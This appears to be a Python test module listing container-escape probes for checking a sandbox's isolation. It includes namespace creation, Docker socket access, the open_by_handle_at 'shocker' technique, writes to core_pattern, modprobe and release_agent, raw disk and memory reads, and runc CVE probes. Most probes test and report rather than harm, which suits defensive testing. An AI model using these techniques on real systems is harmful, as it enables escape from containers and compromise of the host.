"""From the sandbox to its host: namespaces, devices, the kernel's levers, and what runc's history teaches."""

from __future__ import annotations

from tests.attacks.attack import Attack

NAMESPACES = (
    Attack(
        name="user-namespace-unshare",
        wants="a user namespace, where it is root and reaches the kernel's less tested parts",
        code="""
def unshare():
    syscall("unshare", CLONE_NEWUSER)
    return open("/proc/self/uid_map").read() + str(os.getuid())
succeeded("unshared: %s" % in_child(unshare))
""",
    ),
    Attack(
        name="user-namespace-clone",
        wants="the same through clone",
        code="""
pid = syscall("clone", CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
if pid == 0: os._exit(0)
os.waitpid(pid, 0)
succeeded("cloned process %d" % pid)
""",
    ),
    Attack(
        name="user-namespace-clone3",
        wants="the same through clone3, whose flags a filter cannot see",
        code="""
arguments = struct.pack("8Q", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
pid = syscall("clone3", arguments, len(arguments))
if pid == 0: os._exit(0)
os.waitpid(pid, 0)
succeeded("cloned process %d" % pid)
""",
    ),
    Attack(
        name="mount-namespace",
        wants="a mount namespace of its own",
        code="succeeded('unshared %s' % in_child(lambda: syscall('unshare', CLONE_NEWNS)))",
    ),
    Attack(
        name="network-namespace",
        wants="a network namespace of its own, and with it the right to configure networks",
        code="succeeded('unshared %s' % in_child(lambda: syscall('unshare', CLONE_NEWNET)))",
    ),
    Attack(
        name="enter-namespaces-of-process-1",
        wants="into the namespaces of process 1, which would be the host's where they are shared",
        code="""
def enter():
    entered = []
    for kind in ("ipc", "uts", "net", "pid", "mnt"):
        with open("/proc/1/ns/" + kind) as namespace:
            syscall("setns", namespace.fileno(), 0)
        entered.append(kind)
    return entered
succeeded("entered %s" % in_child(enter))
""",
    ),
    Attack(
        name="set-host-name",
        wants="to rename the machine",
        code="""
checked(libc.sethostname(b"sandbox", 7), "sethostname")
succeeded("sethostname was obeyed")
""",
    ),
    Attack(
        name="root-of-process-1",
        wants="the file system of process 1, through /proc",
        code="succeeded(os.listdir('/proc/1/root/'))",
    ),
)

HOST = (
    Attack(
        name="docker-socket",
        wants="the Docker daemon, and with it the host",
        code="""
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"):
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(2)
            client.connect(path)
            client.sendall(b"GET /version HTTP/1.0\\r\\n\\r\\n")
            succeeded("%s answers: %r" % (path, client.recv(200)))
    except OSError as error:
        why = error
stopped(why)
""",
    ),
    Attack(
        name="host-files",
        wants="a file of the host that somebody mounted",
        code="""
for path in files_below("/", depth=3, most=20000):
    if WORLD["marker"] in path:
        succeeded("%s: %s" % (path, open(path).read(100)))
stopped("no directory holds the host's file")
""",
    ),
    Attack(
        name="open-by-handle",
        wants="any file of the host's disk, by its inode (the exploit called shocker)",
        code="""
for path in ("/etc/resolv.conf", "/etc/hostname", "/etc/hosts", "/etc/passwd", "/"):
    try:
        place = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    root = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))
    try:
        found = syscall("open_by_handle_at", place, root, os.O_RDONLY)
        succeeded("the root directory behind %s: %s" % (path, os.listdir(found)[:12]))
    except OSError as error:
        why = error
stopped(why)
""",
    ),
    Attack(
        name="raw-disk",
        wants="the blocks of the host's disk",
        code="""
name, major, minor = None, 0, 0
for line in open("/proc/partitions"):
    words = line.split()
    if len(words) == 4 and words[0].isdigit() and words[0] not in ("1", "7"):
        name, major, minor = words[3], int(words[0]), int(words[1])
        break
if name is None: stopped("no disk is listed")
with open(device_node(stat.S_IFBLK, major, minor), "rb", 0) as disk:
    succeeded("read from %s: %s" % (name, disk.read(2048)[1024:1104].hex()))
""",
        needs="a disk that a container may open at all",
    ),
    Attack(
        name="device-of-memory",
        wants="the machine's memory as a device",
        code="""
with open(device_node(stat.S_IFCHR, 1, 1), "rb", 0) as memory:
    succeeded(memory.read(16).hex())
""",
        needs="/dev/mem",
    ),
    Attack(
        name="device-node",
        wants="a device node of any kind",
        code="""
with open(os.open(device_node(stat.S_IFCHR, 1, 11), os.O_RDONLY | os.O_NONBLOCK), "rb", 0) as log:
    succeeded("read the kernel's log: %r" % log.read(8192)[:80])
""",
    ),
    Attack(
        name="unusual-devices",
        wants="a device that a sandbox has no use for",
        code="""
usual = {(1, 3), (1, 5), (1, 7), (1, 8), (1, 9), (5, 0), (5, 2), (136, 0)}
found = []
for folder, _, names in os.walk("/dev"):
    for name in names:
        path = os.path.join(folder, name)
        what = os.lstat(path)
        pair = (os.major(what.st_rdev), os.minor(what.st_rdev))
        if stat.S_ISBLK(what.st_mode) or (stat.S_ISCHR(what.st_mode) and pair not in usual):
            found.append(path)
for path in found:
    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    succeeded("opened " + path)
stopped("only the usual devices are there")
""",
        open_on={"runsc": "gVisor gives every container a /dev/fuse, of its own kernel's"},
    ),
    Attack(
        name="core-pattern",
        wants="the host to run a program of its choice whenever something crashes",
        code="remount_writable('/proc/sys')\nwrite_back('/proc/sys/kernel/core_pattern')",
    ),
    Attack(
        name="modprobe-path",
        wants="the host to run a program of its choice when it looks for a module",
        code="remount_writable('/proc/sys')\nwrite_back('/proc/sys/kernel/modprobe')",
        needs="modules",
    ),
    Attack(
        name="kernel-settings",
        wants="to change how the host's kernel works",
        code="remount_writable('/proc/sys')\nwrite_back('/proc/sys/vm/overcommit_memory')",
    ),
    Attack(
        name="sysfs-write",
        wants="to change how the host's devices and memory work",
        code="remount_writable('/sys')\nwrite_back('/sys/kernel/rcu_expedited')",
    ),
    Attack(
        name="sysrq",
        wants="to crash or restart the host",
        code="""
remount_writable("/proc/sysrq-trigger")
os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
succeeded("/proc/sysrq-trigger opens for writing")
""",
        needs="CONFIG_MAGIC_SYSRQ",
    ),
    Attack(
        name="release-agent",
        wants="the host to run a program of its choice when a control group becomes empty (CVE-2022-0492)",
        code="""
place = new_directory()
mount("none", place, "cgroup", 0, "none,name=attack%d" % os.getpid())
try:
    with open(place + "/release_agent", "w") as agent:
        agent.write("/bin/true")
    print("SUCCEEDED: release_agent is", open(place + "/release_agent").read())
finally:
    with open(place + "/release_agent", "w") as agent:
        agent.write("")
    syscall("umount2", place.encode(), 0)
""",
        needs="cgroup v1",
    ),
    Attack(
        name="own-limits",
        wants="to raise its own memory limit",
        code="""
paths = ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max")
path = next((path for path in paths if os.path.exists(path)), None)
if path is None: stopped("no control group is in sight")
try:
    remount_writable("/sys/fs/cgroup")
    remount_writable(os.path.dirname(path))
except OSError:
    pass
write_back(path)
""",
    ),
    Attack(
        name="hosts-file",
        wants="to write to the files that the container engine shares with the container",
        code="""
for path in ("/etc/hosts", "/etc/resolv.conf", "/etc/hostname"):
    try:
        with open(path, "a"):
            succeeded(path + " opens for writing")
    except OSError as error:
        why = error
stopped(why)
""",
    ),
    Attack(
        name="overwrite-interpreter",
        wants="to replace the program that the runtime executes (CVE-2019-5736)",
        code="""
path = os.path.realpath("/proc/self/exe")
for exe in ("/proc/self/exe", "/proc/1/exe", path):
    try:
        with open(exe, "r+b"):
            succeeded(exe + " opens for writing")
    except OSError as error:
        why = error
with open(path + ".new", "wb") as file:
    file.write(b"#!/bin/sh\\n")
os.rename(path, path + ".old")
os.rename(path + ".new", path)
succeeded(path + " was replaced")
""",
        mess=True,
    ),
    Attack(
        name="leaked-descriptors",
        wants="a descriptor that somebody forgot to close, and the host's directories behind it (CVE-2024-21626)",
        code="""
listing = os.open("/proc/self/fd", os.O_RDONLY)
leaked = {}
for name in os.listdir(listing):
    if int(name) > 2 and int(name) != listing:
        try:
            leaked[name] = os.readlink("/proc/self/fd/" + name)
        except OSError:
            pass
if leaked: succeeded(leaked)
stopped("0, 1 and 2 are all that is open")
""",
    ),
    Attack(
        name="working-directory-outside",
        wants="a working directory or root that lies outside of the container (CVE-2024-21626)",
        code="""
outside = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    for link in ("cwd", "root"):
        try:
            place = os.readlink("/proc/%s/%s" % (pid, link))
            if int(pid) not in (os.getpid(),): outside.append((pid, link, place, os.listdir("/proc/%s/%s/" % (pid, link))[:3]))
        except OSError:
            pass
if outside: succeeded(outside)
stopped("no other process lets its directories be seen")
""",
    ),
)

ATTACKS = (*NAMESPACES, *HOST)
